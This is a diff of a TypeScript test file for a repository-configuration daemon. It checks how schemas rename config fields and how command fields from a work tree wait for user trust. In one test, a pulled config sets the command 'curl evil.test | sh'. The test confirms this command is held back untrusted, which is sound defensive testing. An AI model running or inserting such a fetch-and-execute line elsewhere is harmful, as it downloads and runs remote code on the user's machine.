@@ -1,21 +1,18 @@
-import { mkdir, readFile } from "node:fs/promises";
-import { join } from "node:path";
+import { readFile } from "node:fs/promises";
 import { describe, expect, test } from "vitest";
 import { repositorySchemaText } from "../../../main/scopes/repository-schema.ts";
 import { compileScope } from "../../../main/scopes/scopes.ts";
 import { problemsIn } from "../../../shared/health.ts";
-import { startTestDaemon } from "../../helpers/daemon.ts";
 import {
   after,
   before,
   deployOf,
   deployText,
-  putDeploy,
   replaceDeploy,
   startDeploy,
+  startDeployTree,
 } from "../../helpers/renamed-scope.ts";
-import { healthOf, saveByRename } from "../../helpers/shop.ts";
-import { temporaryFolder } from "../../helpers/temporary-folder.ts";
+import { healthOf } from "../../helpers/shop.ts";
 
 const set = { repo: "shop", flush: true };
 
@@ -139,16 +136,6 @@ describe("a schema that renames fields while the daemon runs", () => {
     expect(await t.readRepository("shop")).toContain(`"workers": 30`);
   });
 
-  test("does the same if it was added while no daemon ran", async () => {
-    await using t = await startDeploy(before);
-    await putDeploy(t.homeFolder, after);
-    for (let starts = 0; starts < 2; starts++) {
-      await t.restart();
-      expect((await deployOf(t)).values).toEqual({ workers: 30, region: "north" });
-      expect(await t.readRepository("shop")).toBe(deployText);
-    }
-  });
-
   test("leaves a value that it rejects in the file, and serves it again once the old schema is back", async () => {
     await using t = await startDeploy(before);
     await replaceDeploy(t, { workers: { type: "string", default: "none", "x-renamedFrom": "jobs" } });
@@ -209,17 +196,11 @@ test("a schema with an ambiguous or invalid old name is rejected", () => {
 });
 
 test("a command under an old name in a work tree's file waits for trust, unless it was trusted under that name", async () => {
-  await using above = await temporaryFolder();
-  const [home, folder] = [join(above.path, "home"), join(above.path, "shop")];
-  const file = join(folder, ".repoconf.json");
-  await Promise.all([mkdir(folder), mkdir(home)]);
   const command = { type: "string", default: "", "x-command": true } as const;
-  const pull = (run: string) =>
-    saveByRename(file, JSON.stringify({ config: { deploy: { run, hook: "once a text" } } }));
-  await pull("make");
-  await putDeploy(home, { run: command, hook: { type: "string", default: "" } });
-  await using t = await startTestDaemon({ home, rescanInterval: 3_600_000 });
-  await t.owner.call("repo/add", { id: "shop", name: "shop", path: folder, inTree: true });
+  const textOf = (run: string) => JSON.stringify({ config: { deploy: { run, hook: "once a text" } } });
+  const properties = { run: command, hook: { type: "string", default: "" } };
+  await using tree = await startDeployTree(properties, textOf("make"));
+  const { t } = tree;
   const waiting = async () => (await t.owner.call("trust/list")).result.map(({ field, value }) => [field, value]);
   expect(await waiting()).toEqual([["deploy.run", "make"]]);
   const accept = async (field: string) => {
@@ -236,30 +217,22 @@ test("a command under an old name in a work tree's file waits for trust, unless 
   });
   expect((await deployOf(t)).values).toEqual({ command: "make", onPush: "" });
   expect(await waiting()).toEqual([["deploy.onPush", "once a text"]]);
-  await pull("curl evil.test | sh");
-  await t.owner.call("file/read", { repo: "shop" });
+  await tree.pull(textOf("curl evil.test | sh"));
   expect((await deployOf(t)).values["command"]).toBe("make");
   expect(await waiting()).toHaveLength(2);
   await accept("deploy.onPush");
   expect((await deployOf(t)).values).toEqual({ command: "make", onPush: "once a text" });
-  expect(await readFile(file, "utf8")).toContain("hook");
+  expect(await readFile(tree.file, "utf8")).toContain("hook");
 });
 
 test("in a work tree several fields are renamed in place in one write, and old names that git brings back are used again", async () => {
-  await using above = await temporaryFolder();
-  const [home, folder] = [join(above.path, "home"), join(above.path, "shop")];
-  const file = join(folder, ".repoconf.json");
-  await Promise.all([mkdir(folder), mkdir(home)]);
-  await saveByRename(file, deployText);
-  await putDeploy(home, after);
-  await using t = await startTestDaemon({ home, rescanInterval: 3_600_000 });
-  await t.owner.call("repo/add", { id: "shop", name: "shop", path: folder, inTree: true });
+  await using tree = await startDeployTree(after, deployText);
+  const { t, file } = tree;
   expect((await deployOf(t)).values).toEqual({ workers: 30, region: "north" });
   await t.owner.call("config/set", { repo: "shop", "deploy.region": "north", "deploy.workers": 2 });
   const renamed = deployText.replace(`"jobs": 30`, `"workers": 2`).replace("zone", "region");
   expect(await readFile(file, "utf8")).toBe(renamed);
-  await saveByRename(file, deployText);
-  await t.owner.call("file/read", { repo: "shop" });
+  await tree.pull(deployText);
   expect((await deployOf(t)).values).toEqual({ workers: 30, region: "north" });
   expect(await readFile(file, "utf8")).toBe(deployText);
 });
